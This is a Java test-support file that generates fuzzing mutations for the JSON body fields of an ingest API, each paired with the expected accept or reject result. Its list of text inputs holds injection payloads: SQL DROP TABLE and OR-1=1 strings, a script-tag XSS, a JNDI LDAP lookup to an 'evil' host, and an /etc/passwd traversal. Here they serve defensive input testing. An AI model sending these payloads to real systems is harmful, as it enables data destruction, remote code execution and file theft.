package dev.threadline.ingest;

import dev.threadline.ingest.FuzzJson.Raw;
import dev.threadline.testkit.FuzzRun;
import dev.threadline.testkit.Gen;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

/**
 * Generated changes to one field of a valid body, each with the answer the API documents for it: wrong JSON types,
 * numbers out of range, fractions, NUL, lone surrogates, bytes that are not UTF-8, text too long or just long enough,
 * injection strings (which are text like any other), extreme instants, names of the wrong case, removed, null,
 * duplicated and unknown fields.
 */
final class BodyMutations {

    /** A change to a body and what it must be answered with. */
    record Mutation(String description, UnaryOperator<Object> apply, Expect expect) {

        @Override
        public String toString() {
            return description + " -> " + expect;
        }
    }

    private static final List<Object> FRACTIONS = List.of(1.5, -0.25, Raw.of("1e400"), Raw.of("-0.0"), Raw.of("1E2"), Raw.of("2.0"));
    private static final List<Object> NOT_NUMBERS = List.of(true, false, "7", "", Map.of(), List.of(), List.of(1));
    private static final List<Object> NOT_FLAGS = List.of(1, 0, 1.5, "true", "yes", "", Map.of(), List.of());
    private static final List<Object> NOT_STRINGS = List.of(7, -1, 1.5, Raw.of("1e400"), true, false, Map.of(), Map.of("a", 1), List.of(), List.of("x"));
    private static final List<String> TEXTS = List.of("' OR '1'='1", "\"; DROP TABLE conversations; --", "Robert'); DROP TABLE messages;--",
            "{\"$gt\": \"\"}", "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "%00", "\\u0000", "../../etc/passwd",
            "$$; DROP SCHEMA ingest CASCADE; $$", "\u202Eevil", "\uFEFFbom", "emoji \uD83D\uDE00", "\u0001\u007F\u0085", "\uFFFF\uFFFE",
            "a\r\nb", "null", "true", "0", " padded ", "日本語のテキスト");
    private static final List<String> LONE_SURROGATES = List.of("a\uD800b", "\uDC00", "\uDFFF\uD800", "x\uDBFF");
    static final List<byte[]> NOT_UTF8 = List.of(bytes(0xC3, 0x28), bytes(0xFF), bytes(0x80), bytes(0xC0, 0xAF), bytes(0xC0, 0x80),
            bytes(0xE0, 0x80, 0xAF), bytes(0xED, 0xA0, 0x80), bytes(0xE2, 0x82), bytes(0xF4, 0x90, 0x80, 0x80), bytes(0xF8, 0x88, 0x80, 0x80, 0x80));
    private static final List<String> BAD_INSTANTS = List.of("-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59.999999999Z",
            "1970-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "2026-13-45T00:00:00Z", "yesterday", "2026-01-01", "2026-01-01T00:00:00", "");
    private static final List<String> UNKNOWN_NAMES = List.of("tokenUsed", "Content", "x_extra", "__proto__", "$where", "id ", "");
    private BodyMutations() {
    }

    /** Every kind of change to {@code field} of a body. */
    static Gen<Mutation> of(FieldSpec field) {
        Expect rejected = Expect.rejected(field.name());
        Gen<Mutation> typed = switch (field.type()) {
            case ID, TEXT, REQUIRED_TEXT, CONTENT, NAME -> strings(field);
            case INSTANT -> Gen.oneOf(strings(field), instants(field));
            case INTEGER, LONG -> numbers(field);
            case FLAG -> Gen.oneOf(Gen.of(NOT_FLAGS).map(value -> set(field, "not a flag", value, rejected)),
                    Gen.of(true, false).map(value -> set(field, "a flag", value, Expect.accepted())));
            case TEXTS -> Gen.oneOf(texts(field), notContainers(field));
            case ATTRIBUTES -> Gen.oneOf(attributes(field), notContainers(field));
            case RECORD -> notContainers(field);
            case RECORDS -> Gen.oneOf(notContainers(field),
                    Gen.of(7, "x", List.of()).map(value -> item(field, "item not a record", value)),
                    Gen.just(item(field, "null item", null)));
        };
        return Gen.oneOf(structural(field), typed);
    }

    /** Values of other JSON types than a list or an object holds. */
    private static Gen<Mutation> notContainers(FieldSpec field) {
        return Gen.of(NOT_STRINGS.stream().filter(value -> !(value instanceof Map<?, ?>) && !(value instanceof List<?>)).toList())
                .map(value -> set(field, "not a list or object", value, Expect.rejected(field.name())));
    }

    private static Gen<Mutation> structural(FieldSpec field) {
        List<Object> parent = field.path().subList(0, field.path().size() - 1);
        return Gen.oneOf(
                Gen.just(new Mutation("remove " + field.name(), body -> FuzzJson.without(body, field.path()), field.absent())),
                Gen.just(set(field, "null", null, field.absent())),
                Gen.just(new Mutation("duplicate " + field.name(), body -> duplicate(body, field.path()), Expect.rejected(field.name()))),
                Gen.of(UNKNOWN_NAMES).map(name -> new Mutation("unknown field '" + name + "' beside " + field.name(),
                        body -> FuzzJson.with(body, append(parent, name), 1), Expect.rejected(FieldSpec.name(append(parent, name))))));
    }

    private static Gen<Mutation> strings(FieldSpec field) {
        Expect rejected = Expect.rejected(field.name());
        Expect text = field.isText() ? Expect.accepted() : rejected;
        Expect blank = field.type() == FieldSpec.Type.TEXT ? Expect.accepted() : rejected;
        List<Gen<Mutation>> mutations = new ArrayList<>(List.of(
                Gen.of(NOT_STRINGS).map(value -> set(field, "not a string", value, rejected)),
                Gen.of("a\u0000b", "\u0000", "trailing\u0000").map(value -> set(field, "NUL", value, rejected)),
                Gen.of(LONE_SURROGATES).map(value -> set(field, "lone surrogate", value, rejected)),
                Gen.of(NOT_UTF8).map(bytes -> set(field, "not UTF-8", quotedBytes(bytes), rejected)),
                Gen.of("", " ", "\t\n").map(value -> set(field, "blank", value, blank)),
                Gen.of(TEXTS).map(value -> set(field, "text", value, text)),
                GeneratedText.ANY.map(value -> set(field, "generated text", value, text)),
                GeneratedText.unstorable(GeneratedText.ANY).map(value -> set(field, "generated text with NUL or a lone surrogate", value, rejected)),
                GeneratedText.notUtf8().map(bytes -> set(field, "generated bytes that are not UTF-8", quotedBytes(bytes), rejected))));
        switch (field.type()) {
            case ID -> mutations.add(Gen.oneOf(Gen.uuids().map(id -> id.toString().toUpperCase()), Gen.just("00000000-0000-0000-0000-000000000000"))
                    .map(value -> set(field, "another UUID", value, Expect.accepted())));
            case NAME -> mutations.add(Gen.of(field.names()).flatMap(name -> Gen.of(
                    set(field, "another name", name, Expect.accepted()),
                    set(field, "upper case", name.toUpperCase(), rejected),
                    set(field, "padded", " " + name, rejected))));
            case CONTENT -> mutations.add(Gen.of(
                    set(field, "content of the largest size", "x".repeat(field.max()), Expect.accepted()),
                    set(field, "content a byte too large", "x".repeat(field.max() + 1), rejected),
                    set(field, "content of 3-byte characters, too large in bytes", "€".repeat(field.max() / 3 + 1), rejected)));
            case TEXT, REQUIRED_TEXT -> mutations.add(Gen.of(
                    set(field, "text of the largest size", "y".repeat(field.max()), Expect.accepted()),
                    set(field, "text a character too long", "y".repeat(field.max() + 1), rejected)));
            default -> { }
        }
        return Gen.oneOf(mutations);
    }

    private static Gen<Mutation> numbers(FieldSpec field) {
        Expect rejected = Expect.rejected(field.name());
        long max = field.type() == FieldSpec.Type.LONG ? Long.MAX_VALUE : Integer.MAX_VALUE;
        Gen<Object> tooLarge = field.type() == FieldSpec.Type.LONG
                ? Gen.bigIntegers(BigInteger.valueOf(Long.MAX_VALUE).add(BigInteger.ONE), BigInteger.TWO.pow(100)).map(n -> n)
                : Gen.longs(max + 1, Long.MAX_VALUE).map(n -> n);
        return Gen.oneOf(
                Gen.longs(field.min(), max).map(value -> set(field, "in range", value, Expect.accepted())),
                Gen.longs(Long.MIN_VALUE, field.min() - 1).map(value -> set(field, "below range", value, rejected)),
                tooLarge.map(value -> set(field, "above range", value, rejected)),
                Gen.of(FRACTIONS).map(value -> set(field, "fraction", value, rejected)),
                Gen.of(NOT_NUMBERS).map(value -> set(field, "not a number", value, rejected)));
    }

    private static Gen<Mutation> instants(FieldSpec field) {
        Instant now = Instant.now();
        Expect rejected = Expect.rejected(field.name());
        // A day's margin at the ends of the window (5 min ahead, 30 days back): the service's clock reads later.
        return Gen.oneOf(
                Gen.of(BAD_INSTANTS).map(value -> set(field, "bad instant", value, rejected)),
                Gen.of(now.plus(1, ChronoUnit.DAYS), now.minus(31, ChronoUnit.DAYS))
                        .map(value -> set(field, "outside the clock-skew and backdating window", value.toString(), rejected)),
                Gen.longs(3_600, 9_000_000_000L).map(seconds -> set(field, "later than the clock skew allows",
                        now.plusSeconds(seconds).toString(), rejected)),
                Gen.longs(31 * 24 * 3600, 50_000_000_000L).map(seconds -> set(field, "earlier than backdating allows",
                        now.minusSeconds(seconds).toString(), rejected)),
                Gen.of(now.getEpochSecond(), now.toEpochMilli()).map(value -> set(field, "epoch number", value, rejected)),
                Gen.longs(-29 * 24 * 3600, 60).map(seconds -> set(field, "within the window",
                        now.plusSeconds(seconds).toString(), Expect.accepted())));
    }

    private static Gen<Mutation> texts(FieldSpec field) {
        String name = field.name();
        Gen<Mutation> items = Gen.oneOf(
                Gen.of(NOT_STRINGS).map(value -> item(field, "item not a string", value)),
                Gen.of("", " ", "a\u0000b", "\uD800", "z".repeat(201)).map(value -> item(field, "bad item", value)),
                GeneratedText.unstorable(GeneratedText.ANY).map(value -> item(field, "generated item with NUL or a lone surrogate", value)),
                Gen.of(NOT_UTF8).map(bytes -> item(field, "item not UTF-8", quotedBytes(bytes))),
                Gen.just(item(field, "null item", null)));
        return Gen.oneOf(items,
                Gen.of(TEXTS).map(value -> set(field, "text items", new ArrayList<>(List.of(value, "ok")), Expect.accepted())),
                Gen.lists(GeneratedText.ANY, 1, 5).map(values -> set(field, "generated items", new ArrayList<Object>(values), Expect.accepted())),
                Gen.just(set(field, "one item too many", new ArrayList<>(Collections.nCopies(field.max() + 1, "t")), Expect.rejected(name))),
                Gen.just(set(field, "no items", new ArrayList<>(), Expect.accepted())));
    }

    private static Gen<Mutation> attributes(FieldSpec field) {
        return Gen.oneOf(
                Gen.of(NOT_STRINGS).map(value -> set(field, "value not a string",
                        CommandRoutes.object("k", value), Expect.rejected(field.entryName("k")))),
                Gen.just(set(field, "null value", CommandRoutes.object("k", null), Expect.rejected(field.entryName("k")))),
                Gen.of("a\u0000b", "\uDC00", "v".repeat(2_001)).map(value -> set(field, "bad value",
                        CommandRoutes.object("k", value), Expect.rejected(field.entryName("k")))),
                Gen.of(NOT_UTF8).map(bytes -> set(field, "value not UTF-8", CommandRoutes.object("k", quotedBytes(bytes)),
                        Expect.rejected(field.entryName("k")))),
                Gen.of("a\u0000b", "\uD800").map(key -> set(field, "bad key", CommandRoutes.object(key, "v"), Expect.rejected(field.name()))),
                GeneratedText.unstorable(GeneratedText.ANY).map(key -> set(field, "generated key with NUL or a lone surrogate",
                        CommandRoutes.object(key, "v"), Expect.rejected(field.name()))),
                Gen.of(TEXTS).map(text -> set(field, "text key and value", CommandRoutes.object(text, text, "", ""), Expect.accepted())),
                Gen.maps(GeneratedText.ANY, GeneratedText.ANY, 1, 5).map(entries -> set(field, "generated keys and values",
                        new LinkedHashMap<String, Object>(entries), Expect.accepted())),
                Gen.just(set(field, "an entry too many", manyEntries(field.max() + 1), Expect.rejected(field.name()))),
                Gen.just(set(field, "no entries", CommandRoutes.object(), Expect.accepted())));
    }

    private static Mutation set(FieldSpec field, String description, Object value, Expect expect) {
        return new Mutation(description + " in " + field.name() + ": " + shown(value), body -> FuzzJson.with(body, field.path(), value), expect);
    }

    /** The list field with {@code value} added after its one valid item (every valid body's lists hold one). */
    private static Mutation item(FieldSpec field, String description, Object value) {
        return new Mutation(description + " in " + field.name() + "[1]: " + shown(value), body -> {
            List<Object> items = new ArrayList<>((List<?>) FuzzJson.at(body, field.path()));
            items.add(value);
            return FuzzJson.with(body, field.path(), items);
        }, Expect.rejected(field.name() + "[1]"));
    }

    /** The body with the last key of {@code path} written twice, with the same value. */
    private static Object duplicate(Object body, List<Object> path) {
        Object value = FuzzJson.at(body, path);
        String key = (String) path.getLast();
        String again = new String(FuzzJson.write(value), StandardCharsets.UTF_8);
        return FuzzJson.with(body, path, new Raw((again + ", \"" + key + "\": " + again).getBytes(StandardCharsets.UTF_8)));
    }

    static Raw quotedBytes(byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("\"a".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(bytes);
        out.writeBytes("b\"".getBytes(StandardCharsets.US_ASCII));
        return new Raw(out.toByteArray());
    }

    private static Map<String, Object> manyEntries(int count) {
        Map<String, Object> entries = CommandRoutes.object();
        for (int i = 0; i < count; i++) {
            entries.put("k" + i, "v");
        }
        return entries;
    }

    private static List<Object> append(List<Object> path, Object segment) {
        List<Object> longer = new ArrayList<>(path);
        longer.add(segment);
        return longer;
    }

    private static String shown(Object value) {
        return value instanceof String text ? FuzzRun.readable(FuzzJson.text(text)) : String.valueOf(value);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
